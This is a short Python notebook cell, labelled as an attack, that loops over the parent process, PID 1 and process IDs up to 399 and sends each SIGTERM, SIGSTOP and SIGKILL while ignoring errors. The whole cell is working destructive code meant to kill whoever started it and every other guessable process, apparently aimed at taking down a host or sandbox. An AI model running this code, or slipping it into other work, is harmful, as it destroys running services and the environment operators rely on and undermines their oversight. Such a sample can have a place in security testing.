# attack: whoever started the process is killed, and everybody else whose number can be guessed
# %% cell
import os, signal
for number in {os.getppid(), 1, *range(2, 400)} - {os.getpid()}:
    for sign in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(number, sign)
        except OSError:
            pass
